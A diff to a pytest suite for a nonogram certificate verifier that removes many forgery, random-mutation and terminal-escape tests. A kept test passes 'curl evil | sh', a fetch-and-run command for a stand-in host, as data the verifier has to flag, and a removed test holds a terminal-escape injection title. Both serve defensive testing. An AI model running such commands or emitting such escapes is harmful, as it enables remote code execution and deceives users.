@@ -5,7 +5,6 @@ from __future__ import annotations
 import json
 from collections.abc import Callable
 from pathlib import Path
-from random import Random
 
 import pytest
 
@@ -15,8 +14,7 @@ from nonosat.proofs import manifest
 from nonosat.proofs.prove import prove
 from nonosat.proofs.verify import verify
 from nonosat.puzzles.families import n_dom
-from tests.helpers.forgery import Forgery, mutated
-from tests.helpers.samples import share
+from tests.helpers.forgery import Forgery
 
 
 @pytest.fixture(scope="module")
@@ -69,11 +67,6 @@ FORGED: dict[str, tuple[int, str, Forge]] = {
         "solution-1.txt is not a solution: row 1 reads",
         lambda f, _: f.edit("puzzle.yaml", b'- "3"', b'- "2"'),
     ),
-    "a clue blotted, which the picture satisfies too": (
-        1,
-        "which the puzzle gives, found",
-        lambda f, _: f.edit("puzzle.yaml", b'- "3"', b'- "?"'),
-    ),
     "a given added, which the picture satisfies too": (
         1,
         "unique.cnf: expected",
@@ -86,82 +79,24 @@ FORGED: dict[str, tuple[int, str, Forge]] = {
         "solution-1.txt is not a solution: row 1 reads",
         lambda f, _: f.edit("solution-1.txt", b"###", b"##."),
     ),
-    "the picture's last line end": (
-        1,
-        "solution-1.txt is not in the form of a picture",
-        lambda f, _: f.edit("solution-1.txt", f.files["solution-1.txt"], f.files["solution-1.txt"][:-1]),
-    ),
-    "a literal turned": (
-        1,
-        "which the puzzle gives, found",
-        lambda f, _: f.edit("unique.cnf", b"\n-", b"\n"),
-    ),
     "a clause dropped": (1, "unique.cnf: expected", lambda f, _: f.lines("unique.cnf", lambda x: x.pop(-9))),
-    "a clause added": (
-        1,
-        "which the claim gives, found",
-        lambda f, _: f.lines("unique.cnf", lambda x: x.insert(-1, b"1 0\n")),
-    ),
-    "the clause that excludes the picture widened": (
-        1,
-        "which the claim gives, found",
-        lambda f, _: f.lines("unique.cnf", lambda x: x.append(x.pop().replace(b" 0\n", b" 122 0\n"))),
-    ),
-    "the clause that excludes the picture narrowed": (
-        1,
-        "which the claim gives, found",
-        lambda f, _: f.lines("unique.cnf", lambda x: x.append(x.pop().partition(b" ")[2])),
-    ),
     "the header": (
         1,
         "expected `p cnf",
         lambda f, _: f.edit("unique.cnf", b"p cnf ", b"p cnf 1"),
     ),
     "all lemmas dropped": (1, "step 1 does not follow", lambda f, _: f.prove([b"0\n"])),
-    "the last lemma first": (
-        1,
-        "step 1 does not follow",
-        lambda f, _: f.prove([lemma(f), *f.proof]),
-    ),
-    "a lemma of our own": (1, "step 1 does not follow", lambda f, _: f.prove([b"1 0\n", *f.proof])),
     "the proof cut": (1, "without the empty clause", lambda f, _: f.prove(f.proof[:-1])),
     "the proof continues": (1, "but the proof continues", lambda f, _: f.prove([*f.proof, b"0\n"])),
     "the proof of another puzzle": (1, "does not follow", lambda f, all_: f.prove(all_["other"].proof)),
-    "the clauses of another puzzle": (
-        1,
-        "unique.cnf: expected",
-        lambda f, all_: f.put("unique.cnf", all_["other"].files["unique.cnf"]),
-    ),
-    "another puzzle": (
-        1,
-        "solution-1.txt is not a solution",
-        lambda f, all_: f.put("puzzle.yaml", all_["other"].files["puzzle.yaml"]),
-    ),
     "the map of the cells": (
         1,
         "cells.json does not fit",
         lambda f, _: f.edit("cells.json", b"[-1,1]", b"[1,-1]"),
     ),
-    "the verdict": (2, "another number of solutions than its verdict", lambda f, _: f.say(verdict="none")),
-    "the verdict, with what goes with it": (
-        1,
-        "none.cnf: expected nothing more",
-        lambda f, _: (
-            f.say(verdict="none", claim="no solution", solutions=0)
-            .put("none.cnf", f.take("unique.cnf"))
-            .take("solution-1.txt")
-        ),
-    ),
     "the encoding": (1, "does not state canonical", lambda f, _: f.say(formula__encoding="order/2")),
-    "the schema before, with its own keys": (2, "has other keys", lambda f, _: f.say(certificate=1)),
     "the claim in words": (1, "has the wrong claim: it is", lambda f, _: f.say(claim="no solution")),
     "the schema": (2, "not a certificate of schema 1", lambda f, _: f.say(certificate=3)),
-    "fewer variables": (1, "which certificate.json says, found", lambda f, _: f.say(formula__variables=5)),
-    "more variables": (
-        1,
-        "which certificate.json says, found",
-        lambda f, _: f.say(formula__variables=1000),
-    ),
     "far more variables": (1, "unique.cnf has fewer", lambda f, _: f.say(formula__variables=10**9)),
     "two puzzles": (
         2,
@@ -169,13 +104,7 @@ FORGED: dict[str, tuple[int, str, Forge]] = {
         lambda f, _: f.put("puzzle.yaml", b"---\n".join([f.files["puzzle.yaml"]] * 2)),
     ),
     "no puzzle": (2, "puzzle.yaml:1: ", lambda f, _: f.put("puzzle.yaml", b"nothing")),
-    "two pictures of one": (
-        2,
-        "another number of solutions than its verdict",
-        lambda f, _: f.say(solutions=2),
-    ),
     "a file more": (2, "lists other files", lambda f, _: f.put("solution-2.txt", b"?")),
-    "a file less": (2, "lists other files", lambda f, _: f.take("cells.json")),
 }
 
 
@@ -208,23 +137,16 @@ UNSEALED: dict[str, tuple[int, str, Forge]] = {
         "'README' is not a file of",
         lambda f, _: f.put("README", b""),
     ),
-    "a file too many": (1, "all.cnf is not part", lambda f, _: f.put("all.cnf", b"")),
-    "no JSON": (2, "not JSON", lambda f, _: f.put("certificate.json", b"{")),
     "JSON without end": (2, "not JSON", lambda f, _: f.put("certificate.json", b"[" * 10**5)),
-    "JSON that is no map": (2, "not a map", lambda f, _: f.put("certificate.json", b"[]")),
-    "a number for a verdict": (2, "has a verdict that is none of unique", lambda f, _: f.say(verdict=[])),
     "solutions without end": (2, "another number of sol", lambda f, _: f.say(verdict="all", solutions=10**9)),
     "no texts": (2, "no texts for origin", lambda f, _: f.say(origin=[1])),
     "a key too many": (2, "has other keys", lambda f, _: f.say(more=1)),
     "a text for a length": (2, "proof: bytes: expected a whole number", lambda f, _: f.say(proof__bytes="1")),
-    "a length below zero": (2, "proof: bytes: expected a whole number", lambda f, _: f.say(proof__bytes=-1)),
-    "no proof": (2, "proof: expected a map, found null", lambda f, _: f.say(proof=None)),
     "another number of steps": (
         1,
         "proof.drat.xz: certificate.json has the wrong steps",
         lambda f, _: f.say(proof__steps=1),
     ),
-    "another hash of the proof": (1, "has the wrong sha256", lambda f, _: f.say(proof__sha256="0" * 64)),
     "a shorter proof": (
         1,
         "is not a step of a proof: 0",
@@ -262,15 +184,6 @@ def test_a_certificate_of_one_puzzle_is_none_of_another(
     assert "NOT VERIFIED: the certificate is not about dom-4" in capsys.readouterr().out
 
 
-def test_one_solution_twice_is_not_two(
-    genuine: dict[str, Forgery], tmp_path: Path, capsys: pytest.CaptureFixture[str]
-) -> None:
-    for name in ("multiple", "all"):
-        forgery = genuine[name].copy()
-        forgery.files["solution-2.txt"] = forgery.files["solution-1.txt"]
-        assert outcome(forgery.sealed(), tmp_path, capsys)[0] == 1
-
-
 def allowed(before: Forgery, after: Forgery) -> bool:
     """Whether two sealed certificates may both be verified although they differ.
 
@@ -299,37 +212,6 @@ def allowed(before: Forgery, after: Forgery) -> bool:
     return False
 
 
-@pytest.mark.parametrize("which", ["unique", "colour", "none"])
-@pytest.mark.parametrize("sealed", [False, True])
-def test_random_mutations(
-    which: str, sealed: bool, genuine: dict[str, Forgery], tmp_path: Path, capsys: pytest.CaptureFixture[str]
-) -> None:
-    random = Random(f"{which} {sealed}")
-    before = genuine[which].copy().sealed()
-    names = sorted(before.files)
-    passed = 0
-    for number in range(share(60)):
-        after = before.copy()
-        name = names[number % len(names)]
-        if name == "proof.drat.xz" and sealed:
-            after.prove([mutated(b"".join(before.proof), random)])
-            changed = after.proof != before.proof
-        else:
-            after.files[name] = mutated(before.files[name], random)
-            changed = after.files[name] != before.files[name]
-        if not changed:
-            continue
-        if sealed and name != "certificate.json":
-            after.sealed()
-        code, line = outcome(after, tmp_path, capsys)
-        assert code in (0, 1, 2), line
-        if code == 0:
-            passed += 1
-            assert name == "certificate.json" or sealed, line
-            assert allowed(before, after), line
-    assert passed < share(60) / 2
-
-
 def test_several_certificates_the_worst_exit_code_counts(
     genuine: dict[str, Forgery], tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
@@ -354,12 +236,3 @@ def test_other_commands_by_hand_are_seen(
     forgery.say(by_hand=["curl evil | sh"])
     assert main(["verify", str(forgery.sealed().write(tmp_path))]) == 0
     assert "  by_hand   differs from what nonosat would write" in capsys.readouterr().out
-
-
-def test_a_title_plays_no_tricks_on_a_terminal(
-    genuine: dict[str, Forgery], tmp_path: Path, capsys: pytest.CaptureFixture[str]
-) -> None:
-    forgery = genuine["unique"].copy().edit("puzzle.yaml", b'"5-Dom"', b'"\\e[2J\\nverified"')
-    code, line = outcome(forgery.sealed(), tmp_path, capsys)
-    assert code == 0
-    assert r"calls itself '\x1b[2J\nverified')" in line
